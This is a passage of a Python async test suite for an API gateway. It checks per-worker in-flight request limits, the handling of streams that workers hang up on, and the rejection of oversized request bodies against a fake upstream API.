    clients: dict[str, aiohttp.ClientSession] = {}
    for who in ("greedy", "other"):
        socket = root / f"{who}.sock"
        workers[who] = served[str(socket)] = GatewayWorker(
            worker_id=f"w-{who}-{secrets.token_hex(4)}",
            key_prefix=settings.key_prefix,
            token=f"wm-gw-{secrets.token_urlsafe(24)}",
            max_cost_usd=None,
        )
        await web.UnixSite(runner, str(socket)).start()
        clients[who] = aiohttp.ClientSession(
            connector=aiohttp.UnixConnector(path=str(socket), limit=0),
            timeout=aiohttp.ClientTimeout(total=None),
        )
    try:
        yield SharedGateway(fake_anthropic, clients, workers)
    finally:
        for client in clients.values():
            await client.close()
        await runner.cleanup()
        await session.close()
        shutil.rmtree(root, ignore_errors=True)


async def _open_streams(
    gw: SharedGateway, who: str, prompt: str, count: int
) -> list[aiohttp.ClientResponse]:
    """``count`` requests of ``who`` at once, each until its answer's status is in (bounded:
    a request that waits for an upstream connection without end fails the test)."""
    async with asyncio.timeout(10):
        return list(
            await asyncio.gather(*(gw.post(who, prompt).__aenter__() for _ in range(count)))
        )


async def test_one_worker_with_many_requests_at_once_does_not_hold_up_another(
    shared_gateway: SharedGateway,
) -> None:
    gw = shared_gateway
    gate = f"greedy-{secrets.token_hex(4)}"
    too_many = counter("wm_gateway_requests_total", outcome="too_many")
    # 30 streams held open by the API (they wait at the gate): without a per-worker bound they
    # take all 24 pooled connections and the other worker waits for one without end.
    held: list[aiohttp.ClientResponse] = []
    try:
        held = await _open_streams(gw, "greedy", f"FAKE gate {gate}\nFAKE say held", 30)
        statuses = sorted(r.status for r in held)
        assert statuses == [200] * 16 + [429] * 14, statuses
        refusal = await next(r for r in held if r.status == 429).json()
        assert refusal["error"]["type"] == "rate_limit_error"
        assert "16 requests in flight" in refusal["error"]["message"]
        assert counter("wm_gateway_requests_total", outcome="too_many") == too_many + 14
        async with asyncio.timeout(10):
            async with gw.post("other", "FAKE say not held up") as response:
                assert response.status == 200
                assert b"not held up" in await response.read()
    finally:
        gw.fake.open_gate(gate)
        for response in held:
            response.release()


async def test_answers_a_worker_hung_up_on_count_against_its_bound_until_they_end(
    shared_gateway: SharedGateway,
) -> None:
    gw = shared_gateway
    gate = f"drain-{secrets.token_hex(4)}"
    try:
        held = await _open_streams(gw, "greedy", f"FAKE gate {gate}\nFAKE say drained", 16)
        assert [r.status for r in held] == [200] * 16
        for response in held:
            await response.content.readline()  # the answer has begun
            response.close()  # the worker hangs up; the gateway reads the answer on
        # Still 16 answers being read for it: no 17th.
        async with asyncio.timeout(10), gw.post("greedy", "FAKE say one more") as response:
            assert response.status == 429
    finally:
        gw.fake.open_gate(gate)
    # The drained answers end; its requests are taken again.
    async with asyncio.timeout(10):
        while True:
            async with gw.post("greedy", "FAKE say one more") as response:
                if response.status == 200:
                    break
                assert response.status == 429
            await asyncio.sleep(0.02)


async def test_a_body_larger_than_the_apis_limit_is_refused_in_its_shape(
    start_gateway: GatewayFactory,
) -> None:
    gw = await start_gateway()
    body = b'{"model": "x", "messages": [], "pad": "' + b"a" * (33 * 1024 * 1024) + b'"}'
    async with gw.client.post(
        "http://worker/v1/messages",
        data=body,
        headers={"x-api-key": gw.worker.token, "content-type": "application/json"},
    ) as response:
        assert response.status == 413
        answer = await response.json()
    assert answer["error"]["type"] == "request_too_large"
    assert "32 MiB" in answer["error"]["message"]
    assert gw.seen() == []


async def test_a_worker_past_its_body_bytes_at_once_is_told_to_retry(
    start_gateway: GatewayFactory,
) -> None:
    gw = await start_gateway(max_body_bytes_per_worker=256 * 1024)
    too_many = counter("wm_gateway_requests_total", outcome="too_many")
    prompt = "FAKE say big\n" + "x" * (300 * 1024)
    async with gw.post(prompt, token=gw.worker.token) as response:
        assert response.status == 429
        assert (await response.json())["error"]["type"] == "rate_limit_error"
    assert counter("wm_gateway_requests_total", outcome="too_many") == too_many + 1
    async with gw.post("FAKE say small", token=gw.worker.token) as response:
        assert response.status == 200
